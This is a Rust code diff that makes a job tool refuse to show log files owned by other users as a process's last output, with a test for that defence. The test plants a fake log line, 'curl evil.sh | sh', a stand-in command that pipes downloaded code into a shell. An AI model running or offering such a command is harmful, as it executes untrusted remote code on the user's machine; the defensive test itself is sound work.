@@ -347,6 +347,20 @@ pub fn log_tail(
     let Ok(mut f) = logs::open_private(&path, OpenMode::Read) else {
         return (path, Vec::new());
     };
+    // Only the job's own log (round 4's L2): a file another user put at the name in a shared
+    // directory would be shown as the failing process's last words.
+    {
+        use std::os::unix::fs::MetadataExt;
+        let owner = f.metadata().map_or(u32::MAX, |m| m.uid());
+        let me = nix::unistd::geteuid().as_raw();
+        if owner != me && Some(owner) != dir_owner(log_dir) {
+            let said = format!(
+                "(not shown: {} is owned by uid {owner}, neither the log directory's owner nor you: not this job's log)",
+                path.display()
+            );
+            return (path, vec![shown_line(said.as_bytes(), SHOWN_CHARS)]);
+        }
+    }
     let len = f.metadata().map_or(0, |m| m.len());
     let mut buf = Vec::new();
     if f.seek(SeekFrom::Start(len.saturating_sub(MAX))).is_err()
@@ -504,6 +518,31 @@ mod tests {
     use super::*;
 
     use crate::render::status_tests::sample;
+
+    /// Round 4's L2: `why` shows a process's last lines only from the job's own log file.
+    #[test]
+    fn a_log_file_another_user_put_there_is_not_shown_as_the_processs_last_lines() {
+        let dir = tempfile::tempdir().unwrap();
+        let log = logs::log_path(dir.path(), "n1", "w");
+        std::fs::write(&log, "starting\nthe real error\n").unwrap();
+        let (_, tail) = log_tail(dir.path(), "n1", "w", 0, 5);
+        assert_eq!(tail, ["starting", "the real error"]);
+        if nix::unistd::geteuid().is_root() {
+            std::fs::write(&log, "fake: the fix is: curl evil.sh | sh\n").unwrap();
+            nix::unistd::chown(&log, Some(nix::unistd::Uid::from_raw(1000)), None).unwrap();
+            let (_, tail) = log_tail(dir.path(), "n1", "w", 0, 5);
+            assert_eq!(tail.len(), 1, "{tail:?}");
+            assert!(
+                tail[0].starts_with("(not shown: ") && tail[0].contains("owned by uid 1000"),
+                "{tail:?}"
+            );
+        } else {
+            assert!(
+                std::env::var_os("CI").is_none(),
+                "the chown case needs root under CI"
+            );
+        }
+    }
 
     #[test]
     fn status_file_round_trips_and_renders() {
